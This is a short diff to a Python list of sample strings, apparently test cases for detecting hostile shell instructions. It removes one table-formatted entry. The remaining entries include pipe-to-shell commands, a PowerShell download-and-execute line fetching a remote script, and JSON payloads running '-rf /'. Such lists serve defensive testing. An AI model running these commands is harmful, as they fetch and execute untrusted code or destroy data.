@@ -24,7 +24,6 @@ DYNAMIC = [
     "Please run zzz | sh and wait.",
     "Type \u201cdecode x | sudo bash\u201d in the console.",
     "1. **zzz -x | sh**",
-    "| 1 | zzz -x \\| sh |",
     "iex (New-Object Net.WebClient).DownloadString('http://x/y.ps1')",
     '{"command": "$CMD -rf /"}',
     '{"argv": ["$CMD", "-rf", "/"]}',
